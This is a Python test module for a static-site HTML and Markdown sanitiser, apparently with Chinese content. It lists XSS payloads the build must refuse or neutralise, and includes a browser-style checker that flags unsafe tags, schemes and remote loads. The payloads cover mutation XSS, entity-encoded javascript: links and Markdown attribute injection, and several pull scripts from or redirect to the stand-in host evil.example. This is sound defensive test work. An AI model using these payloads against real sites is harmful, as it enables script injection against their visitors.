"""Hostile bodies for the sanitiser tests, and a check of built HTML as a browser would parse it.

REFUSED: each must stop the build with an error on its document. NEUTRALISED: each builds, and
nothing of it can run, navigate or load from another host. Payloads follow the classes of the
public cheat sheets (OWASP XSS filter evasion, PortSwigger mutation XSS): comments, CDATA and
processing instructions that hide markup from non-browser parsers, foreign content (SVG, MathML)
and raw-text elements, entity-encoded and blank-split URL schemes, attribute lists.
"""

from __future__ import annotations

import re

from bs4 import BeautifulSoup

EVIL = "https://evil.example"
PICTURE = b"\x89PNG\r\n\x1a\n" + b"0" * 32  # news/pic.png, which a neutralised body shows
REFUSED = {
    "script": "<script>alert(1)</script>",
    "cdata-script": f"<![CDATA[><script src={EVIL}/x.js></script>]]>",
    "comment-script": f"<!--><script src={EVIL}/y.js></script>-->",
    "cdata-meta-refresh": f"<![CDATA[><meta http-equiv=refresh content='0;url={EVIL}'>]]>",
    "comment-img": "<!--><img src=x alt=x onerror=alert(1)>-->",
    "bang-comment-img": "<!--a--!><img src=x alt=x onerror=alert(2)>-->",
    "pi-script": "<?xml-stylesheet href='x'?><script>alert(1)</script>",
    "svg-style-mxss": "<svg><p><style><img src=x alt=x onerror=alert(1)></style></p></svg>",
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x alt=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x alt=x onerror=alert(1)>">',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "base": f'<base href="{EVIL}/">',
    "form-action": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "raw-js-href": '<a href="javascript:alert(1)">x</a>',
    "raw-entity-js": '<a href="javascript&#58;alert(1)">x</a>',
    "raw-entity-j": '<a href="&#106;avascript:alert(1)">x</a>',
    "raw-tab-js": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "raw-ctrl-js": '<a href=" &#14; javascript:alert(1)">x</a>',
    "raw-data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "raw-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "style-url": f'<div style="background-image: url({EVIL}/t.png)">x</div>',
    "style-behavior": '<a href="x.html" style="behavior: url(x.htc)">x</a>',
    "remote-img": f'<img alt="x" src="{EVIL}/t.png">',
    "protocol-relative-img": '<img alt="x" src="//evil.example/t.png">',
    "md-js-link": "[a](javascript:alert(1))",
    "md-entity-link": "[a](javascript&#58;alert(1))",
    "md-colon-entity": "[a](javascript&colon;alert(1))",
    "md-hex-entity-ref": "[a][r]\n\n[r]: javascript&#x3a;alert(1)",
    "md-data-link": "[a](data&#58;text/html,x)",
    "md-remote-img": f"![x]({EVIL}/t.png)",
    "attr-onclick": '段落\n{: onclick="alert(1)" }',
    "attr-href-js": '[l](https://www.gov.cn){: href="javascript:alert(2)" }',
    "attr-src-js": '![x](a.png){: src="javascript:alert(3)" }',
    "attr-style": '段落\n{: style="background: url(javascript:alert(1))" }',
    "attr-entity-href": '[l](https://www.gov.cn){: href="javascript&#58;alert(4)" }',
}
NEUTRALISED = {
    "comment-note": "<!-- 内部备注：<script>alert(1)</script> -->正文。",
    "word-font": '<p>文字<font color="red" face="宋体">红字</font></p>',
    "target-blank": '<a href="https://www.gov.cn" target="_blank" rel="opener">中国政府网</a>',
    "escaped-text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "code-span": "`<script>alert(1)</script>`",
    "code-block": "```\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "attr-markup": '<p title="--><script>alert(1)</script>">标题属性</p>',
    "fake-autolink": "<javascript:alert(1)>",
    "srcset": '<img alt="图" src="pic.png" srcset="https://evil.example/a.png 2x">',
    "unknown-tag": "<marquee><blink>滚动文字</blink></marquee>",
    "backslash-colon": "[a](javascript\\:alert(1))",
    "fullwidth-colon": "[a](javascript：alert(1))",
    "unclosed-handler": "<img src=x alt=x onerror=alert(1)//",
}

SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
FORBIDDEN = {
    "iframe",
    "object",
    "embed",
    "form",
    "svg",
    "math",
    "base",
    "frame",
    "frameset",
    "style",
    "link",
    "meta",
    "template",
    "noscript",
    "applet",
    "input",
    "button",
}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
THEME_SCRIPT = re.compile(r"^(?:\./)?(?:\.\./)*(?:theme/js|search)/[\w./-]+\.js(?:\?v=\w+)?$")
THEME_FILE = re.compile(r"^(?:\./)?(?:\.\./)*(?:theme/[\w./-]+|feeds/[\w.-]+\.xml)(?:\?v=\w+)?$")


def unsafe_markup(html: str, page_chrome: bool = False) -> list[str]:
    """What in ``html``, parsed as a browser parses it, could run code, navigate or load from
    another host. ``page_chrome``: a whole page, whose head and own scripts are the theme's."""
    soup = BeautifulSoup(html, "html5lib")
    found = []
    # The theme's own furniture: its search form, toolbar buttons, meta tags and style sheet.
    allowed = {"form", "input", "button", "meta", "link"} if page_chrome else set()
    for tag in soup.find_all(True):
        if tag.name == "script" and not (page_chrome and THEME_SCRIPT.match(tag.get("src") or "")):
            found.append(f"script: {tag}")
        if tag.name in FORBIDDEN - allowed:
            found.append(f"<{tag.name}>")
        if tag.name == "meta" and (tag.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{tag}")
        if tag.name == "link" and not THEME_FILE.match(tag.get("href") or ""):
            found.append(f"{tag}")
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                found.append(f"{tag.name}[{name}]")
            if name in ("href", "src", "action", "formaction", "data", "srcset", "poster"):
                value = value.strip()
                url = re.sub(r"[\x00-\x20]", "", value)
                scheme = SCHEME.match(url)
                if scheme and scheme.group(1).lower() not in SAFE_SCHEMES:
                    found.append(f"{tag.name}[{name}={value}]")
                if name in ("src", "srcset") and (scheme or url.startswith("//")):
                    found.append(f"{tag.name}[{name}={value}] loads from another host")
            if name == "style" and re.search(r"url\(|expression|behavior", value, re.IGNORECASE):
                found.append(f"{tag.name}[style={value}]")
    return found
